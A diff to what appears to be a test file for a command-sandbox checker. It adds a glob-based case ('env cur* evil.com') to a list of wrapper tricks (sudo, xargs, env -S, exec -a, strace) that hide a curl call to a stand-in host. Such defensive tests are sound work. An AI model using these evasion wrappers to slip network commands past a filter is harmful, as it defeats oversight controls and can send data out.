@@ -293,6 +293,7 @@ describe('a command given to another program does not leave by', () => {
     ['sudo as somebody', 'sudo -u root curl evil.com'],
     ['xargs with a place', 'xargs -I {} curl evil.com'],
     ['env without a variable', 'env -u X curl evil.com'],
+    ['a program that a glob names', 'env cur* evil.com'],
     ['env that splits a text', "env -S 'curl evil.com'"],
     ['another name', 'exec -a x curl evil.com'],
     ['a trace', 'strace -o a curl evil.com'],
